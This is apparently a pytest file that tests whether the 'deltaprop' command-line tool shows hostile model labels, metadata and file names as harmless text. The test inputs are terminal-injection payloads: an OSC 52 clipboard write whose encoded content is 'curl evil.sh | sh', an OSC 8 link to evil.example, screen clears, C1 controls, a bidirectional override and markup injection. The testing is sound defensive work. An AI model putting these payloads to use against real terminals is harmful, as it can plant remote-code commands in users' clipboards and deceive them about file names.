"""A hostile model, data file or name against the terminal: class labels, metadata, paths and --out
names holding escape sequences (OSC 52 clipboard writes, OSC 8 links, screen clears), C1 controls,
a bidirectional override and rich markup. Every command that shows them must print them as visible,
inert text: no control character on stdout or stderr, no ``MarkupError`` traceback, at most 3 lines
on stderr (``harness.Outcome.check``). Also: no raw Python warning on the command line.
"""

from __future__ import annotations

from pathlib import Path

import numpy as np
import pytest

import deltaprop
from deltaprop import io
from tests.hostile.harness import run

OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
OSC8 = "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\"
CLEAR = "\x1b[2J\x1b[H"
HOSTILE = (OSC52, OSC8, CLEAR, "\u202eexe.txt", "[bold]big", "[/]", "[link=http://evil.example]x",
           "c1\x9b31m", "a\rb\x08", "x]y[z", "[red", ":smile:")
#: ten labels for the digits' ten output units, each a different attack
LABELS = [*HOSTILE[:9], "\x7fdel"]
NAME = "[bold]m[link=x]\x1b[2J"  # a file name with markup and an escape sequence (no "/")


@pytest.fixture(scope="module")
def place(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with a digits-sized model whose labels and metadata are hostile, copies of it under
    hostile names, and inputs for predict."""
    folder = tmp_path_factory.mktemp("terminal")
    net = deltaprop.Network([64, 8, 10], seed=0, classes=LABELS)
    metadata = {"note": OSC52 + "[bold]" + OSC8, "[link=http://evil.example]key": CLEAR + "\u202e",
                "long": "[/]" * 5000}
    io.save(net, folder / "model.safetensors", extra_metadata=metadata)
    io.save(net, folder / f"{NAME}.safetensors", extra_metadata=metadata)
    rows = np.random.default_rng(0).uniform(0, 1, (3, 64))
    np.save(folder / "one.npy", rows[:1])
    np.save(folder / f"{OSC52}[bold].npy", rows)
    np.save(folder / "[red]two[i].npy", rows)
    return folder


def test_predict_shows_hostile_labels_and_file_names_as_text(place: Path) -> None:
    for files in (["one.npy"], [f"{OSC52}[bold].npy", "[red]two[i].npy"]):
        outcome = run(["predict", f"{NAME}.safetensors", *files], place)
        outcome.check(0)
        assert "\\x1b" in outcome.out or "\\u202e" in outcome.out  # the escape shown, not sent
    outcome = run(["predict", "model.safetensors", "one.npy", "--show-input", f"{CLEAR}[b].png"], place)
    outcome.check(0)


def test_predict_json_holds_no_raw_control_characters(place: Path) -> None:
    outcome = run(["predict", "model.safetensors", "one.npy", "--json"], place)
    outcome.check(0)


def test_evaluate_refuses_digits_for_hostile_labels_in_one_inert_line(place: Path) -> None:
    outcome = run(["evaluate", f"{NAME}.safetensors", "--split", "test"], place)
    outcome.check(2)  # the digits' labels are not the model's: the message quotes the labels
    assert "\\x1b]52" in outcome.err


def test_info_shows_hostile_metadata_and_path_as_text(place: Path) -> None:
    outcome = run(["info", f"{NAME}.safetensors"], place)
    outcome.check(0)
    assert "[bold]m[link=x]" in outcome.out
    assert len(max(outcome.out.splitlines(), key=len)) < 1000  # the long value shortened


def test_export_to_a_hostile_name(place: Path) -> None:
    pytest.importorskip("onnx")
    outcome = run(["export", f"{NAME}.safetensors", "--onnx", f"{CLEAR}[bold]x[i].onnx"], place)
    outcome.check(0)


@pytest.mark.parametrize("argv", [
    ["predict", "model.safetensors", f"{OSC52}[/]missing.npy"],
    ["evaluate", f"{OSC8}[link=http://evil.example]gone.safetensors"],
    ["info", f"{CLEAR}[bold]gone[/].safetensors"],
    ["report", f"[bold]{OSC52}no-run"],
    ["train", "--data", f"{CLEAR}[red]x.csv", "--epochs", "1", "--quiet"],
    ["export", "model.safetensors", "--onnx", f"{OSC52}[/]x.txt"],
])
def test_errors_quoting_hostile_names_are_one_inert_line(place: Path, argv: list[str]) -> None:
    outcome = run(argv, place)
    outcome.check(2)
    assert outcome.err.startswith("deltaprop: error: ")


def test_train_and_report_with_hostile_labels_and_out_names(tmp_path: Path) -> None:
    rng = np.random.default_rng(0)
    names = (OSC52, "[bold]b", CLEAR + "[/]")
    lines = ["a,b,c,d,label"]
    for i in range(90):
        x = np.clip(0.5 + 0.1 * rng.normal(size=4) + 0.2 * (i % 3), 0, 1)
        lines.append(",".join(f"{v:.4f}" for v in x) + "," + names[i % 3].replace(",", ";"))
    (tmp_path / "[data].csv").write_text("\n".join(lines) + "\n")
    np.save(tmp_path / "x.npy", rng.uniform(0, 1, (1, 4)))
    out = f"[bold]run[/]{CLEAR}"
    outcome = run(["train", "--data", "[data].csv", "--hidden", "4", "--epochs", "2", "--no-plots",
                   "--out", out], tmp_path)
    outcome.check(0)
    model = f"{out}/model.safetensors"
    for argv in (["evaluate", model], ["info", model], ["explain", model], ["predict", model, "x.npy"],
                 ["report", out, "-o", f"{OSC52}[b]r.html"]):
        outcome = run(argv, tmp_path)
        outcome.check(0)
        if argv[0] == "evaluate":
            assert "[bold]b" in outcome.out and "\\x1b]52" in outcome.out  # markup and escapes shown


def test_unscaled_data_warn_in_one_cli_line(tmp_path: Path) -> None:
    rng = np.random.default_rng(0)
    values = rng.uniform(0, 255, (60, 2))
    lines = ["a,b,label"] + [f"{a:.1f},{b:.1f},{i % 2}" for i, (a, b) in enumerate(values)]
    (tmp_path / "raw.csv").write_text("\n".join(lines) + "\n")
    outcome = run(["train", "--data", "raw.csv", "--hidden", "3", "--epochs", "1", "--no-plots",
                   "--quiet", "--scale", "none", "--out", "run"], tmp_path)
    outcome.check(0)
    warning = [line for line in outcome.err.splitlines() if line.startswith("deltaprop: warning: ")]
    assert len(warning) == 1 and "warn_unscaled" not in warning[0] and "--scale standard" in warning[0]
    scaled = run(["train", "--data", "raw.csv", "--hidden", "3", "--epochs", "1", "--no-plots",
                  "--quiet", "--out", "scaled"], tmp_path)  # tables are standardized by default
    scaled.check(0)
    assert "warning" not in scaled.err


def test_training_on_extreme_but_finite_values_shows_no_raw_warning(tmp_path: Path) -> None:
    lines = ["a,b,label"] + [f"{(-1) ** i * 1e308:g},{(-1) ** (i // 3) * 1.7e308:g},{i % 2}"
                             for i in range(40)]
    (tmp_path / "huge.csv").write_text("\n".join(lines) + "\n")
    outcome = run(["train", "--data", "huge.csv", "--hidden", "3", "--epochs", "1", "--no-plots",
                   "--quiet", "--out", "run"], tmp_path)
    outcome.check(outcome.status)  # refused or trained: either way in deltaprop's own lines
    assert outcome.status in (0, 2)


def test_a_step_that_does_not_divide_the_range_is_refused_before_optuna_warns(tmp_path: Path) -> None:
    (tmp_path / "space.toml").write_text('[fixed]\nepochs = 1\n[search]\neta = { low = 0.1, high = 1.0, '
                                         'step = 0.4 }\n')
    outcome = run(["sweep", "space.toml", "--trials", "1", "--out", f"[bold]{CLEAR}s"], tmp_path)
    outcome.check(2)
    assert "choose high = 0.9" in outcome.err


def test_a_sweep_with_hostile_names_prints_inertly(tmp_path: Path) -> None:
    pytest.importorskip("optuna")
    (tmp_path / "space.toml").write_text('[fixed]\nepochs = 1\nhidden = [4]\n[data]\nsubset = 100\n'
                                         '[search]\neta = { low = 0.5, high = 1.0, step = 0.25 }\n')
    outcome = run(["sweep", "space.toml", "--trials", "2", "--study", "[bold]st[link=http:x]",
                   "--out", f"[bold]{CLEAR}s"], tmp_path)
    outcome.check(0)
    assert "[bold]st[link=http:x]" in outcome.out and "[bold]\\x1b[2J" in outcome.out


def test_explain_on_extreme_but_finite_weights_says_so_in_one_line(tmp_path: Path) -> None:
    net = deltaprop.Network([64, 8, 10], seed=0)
    for weights, biases in zip(net.weights, net.biases, strict=True):
        weights[...] = 1.7e308 * np.sign(weights)
        biases[...] = 1.7e308
    io.save(net, tmp_path / "huge.safetensors")
    for argv in (["explain", "huge.safetensors"], ["explain", "huge.safetensors", "--json"],
                 ["evaluate", "huge.safetensors"], ["report", ".", "--no-data"]):
        if argv[0] == "report":
            (tmp_path / "huge.safetensors").rename(tmp_path / "model.safetensors")
        outcome = run(argv, tmp_path)
        outcome.check(outcome.status)
        assert outcome.status in (0, 2), argv
        if argv[0] == "explain":
            assert outcome.err.startswith("deltaprop: warning: the numbers of this trace overflowed")
